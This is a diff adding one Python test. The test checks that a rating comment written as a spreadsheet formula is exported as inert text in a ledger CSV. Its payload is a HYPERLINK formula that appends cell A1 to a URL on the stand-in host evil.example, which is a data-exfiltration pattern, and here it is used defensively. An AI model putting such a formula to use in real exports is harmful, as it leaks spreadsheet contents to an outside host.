@@ -262,3 +262,19 @@ def test_another_applicant_gets_the_answer_of_other_case_reads(client, demo):  #
                                      json={**BAD, "indicators": {**BAD["indicators"], "attitude": 3}}),
                          422, "rating_indicator_unknown")
     assert bad["field"] == "indicators.attitude"
+
+
+def test_a_comment_written_as_a_formula_stays_text_in_the_ledger_csv(client, demo):  # noqa: F811
+    """The ledger's CSV carries raters' own words into a supervisor's spreadsheet: a comment that
+    a spreadsheet would run as a formula arrives as text (engine/domain/report_csv.py)."""
+    zhang, agent = auth(client, "applicant_zhang"), auth(client, "zcz_qs_agent")
+    case_id = finished_case(client, demo, zhang)
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
+    r = client.post(f"/api/v1/cases/{case_id}/ratings", headers=zhang, json={**BAD, "comment": formula})
+    assert r.status_code == 201, r.json
+    sheet = client.get("/api/v1/ratings/rectifications?format=csv", headers=agent)
+    assert sheet.status_code == 200
+    text = sheet.get_data(as_text=True)
+    assert text.startswith("\ufeff")
+    assert "'=HYPERLINK(" in text
+    assert ',"=HYPERLINK(' not in text and ",=HYPERLINK(" not in text
